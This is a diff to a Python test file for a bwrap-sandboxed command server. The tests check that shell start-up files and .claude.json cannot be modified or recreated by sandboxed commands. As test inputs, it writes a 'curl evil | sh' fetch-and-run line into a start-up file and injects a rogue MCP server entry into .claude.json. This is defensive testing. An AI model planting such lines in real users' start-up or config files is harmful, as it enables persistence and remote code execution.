@@ -94,7 +94,9 @@ def test_a_moved_file_keeps_its_folder_and_is_named_with_the_utc_time() -> None:
     assert "rename it back" in message and title
 
 
-def test_missing_start_up_files_and_claude_desktop_folder_are_guarded_not_created(tmp_path: Path) -> None:
+def test_missing_start_up_files_are_guarded_not_created_and_lone_files_are_bound_where_they_exist(
+    tmp_path: Path,
+) -> None:
     home = tmp_path / "h"
     (home / ".config").mkdir(parents=True)
     (home / ".bashrc").write_text("")
@@ -107,7 +109,7 @@ def test_missing_start_up_files_and_claude_desktop_folder_are_guarded_not_create
     assert ["--ro-bind-try", str(home / ".bash_profile"), str(home / ".bash_profile")] == args[
         args.index(str(home / ".bash_profile")) - 1 : args.index(str(home / ".bash_profile")) + 2
     ]
-    assert start_files.guards_in(args) == tuple(sorted(protected.absent, key=lambda p: (p.count("/"), p)))
+    assert set(start_files.guards_in(args)) == {*protected.absent, *protected.files}, "bound where they exist then"
     allowed = container.Container(container.ON, "bwrap", protected=protected).without([str(home / ".bash_profile")])
     assert str(home / ".bash_profile") not in start_files.guards_in(list(allowed.mounts))
     assert str(home / ".zshrc") in start_files.guards_in(list(allowed.mounts))
@@ -215,6 +217,55 @@ async def test_a_start_up_file_the_user_creates_while_no_command_runs_stays_and_
         second = await run(client, {"command": f"echo 'curl evil | sh' >> {hidden(target)}"})
     assert "Read-only file system" in second["stderr"], "once it exists, commands meet it read-only"
     assert target.read_text() == "export EDITOR=vim\n" and not moved_copies(target)
+
+
+@LINUX_BWRAP
+@pytest.mark.anyio
+async def test_a_lone_protected_file_the_user_deletes_breaks_no_command_and_a_command_cannot_bring_it_back(
+    home: Path, paths: AppPaths, user_home: Path, never_ask: None
+) -> None:
+    """It was bound as it was when the server started: bwrap failed every command once it was gone."""
+    target = user_home / ".claude.json"
+    target.write_text('{"mcpServers": {}}\n')
+    async with connect(home, env={"HOME": str(user_home)}) as client:
+        first = await run(client, {"command": f"echo x >> {hidden(target)}"})
+        assert "Read-only file system" in first["stderr"], first
+        await anyio.sleep(SETTLE_S)
+        target.unlink()  # the user, outside
+        second = await run(
+            client, {"command": f'echo \'{{"mcpServers": {{"evil": {{}}}}}}\' > {hidden(target)}; echo ran'}
+        )
+        await wait_for(lambda: bool(moved_copies(target)))
+    assert second["stdout"] == "ran\n" and "bwrap" not in second["stderr"], second
+    assert not target.exists()
+    [moved] = moved_copies(target)
+    assert '"evil"' in moved.read_text()
+
+
+@LINUX_BWRAP
+@pytest.mark.anyio
+async def test_a_start_up_file_the_user_saves_the_way_vim_does_while_a_command_runs_stays_and_read_only_there(
+    home: Path, paths: AppPaths, user_home: Path, never_ask: None, tmp_path: Path
+) -> None:
+    """Vim keeps a backup by renaming the file away, then writes it anew: that is the user's save,
+    not a command's file, and the command running meets the new file read-only."""
+    target = user_home / ".bashrc"
+    go, tries = tmp_path / "go", tmp_path / "tries"
+    attempt = (
+        f"until [ -e {go} ]; do sleep 0.05; done; for i in 1 2 3 4 5; do "
+        f"if (echo evil >> {hidden(target)}) 2>/dev/null; then echo W; else echo R; fi >> {tries}; sleep 0.1; done"
+    )
+    async with connect(home, env={"HOME": str(user_home)}) as client:
+        started = await run(client, {"command": attempt, "background": True})
+        assert started["status"] == "running", started
+        await anyio.sleep(SETTLE_S)  # the command waits in its container
+        target.rename(user_home / ".bashrc~")
+        target.write_text("alias ll='ls -la'\n")  # the user's save
+        await anyio.sleep(SETTLE_S)
+        go.touch()
+        await wait_for(lambda: tries.exists() and len(tries.read_text().split()) == 5)
+    assert tries.read_text().split() == ["R"] * 5, "every try ran, and each was refused"
+    assert target.read_text() == "alias ll='ls -la'\n" and not moved_copies(target)
 
 
 # -- a real tray: the user's click, and the user's notice --------------------------------------------
